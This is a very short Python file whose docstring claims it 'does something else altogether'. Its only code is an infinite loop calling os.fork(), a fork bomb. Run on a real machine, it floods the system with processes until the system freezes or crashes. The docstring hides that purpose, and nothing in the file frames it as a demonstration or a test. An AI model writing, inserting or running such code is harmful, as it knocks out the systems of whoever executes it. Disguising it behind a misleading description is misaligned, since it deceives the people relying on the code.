"""Does something else altogether."""

import os

while True:
    os.fork()
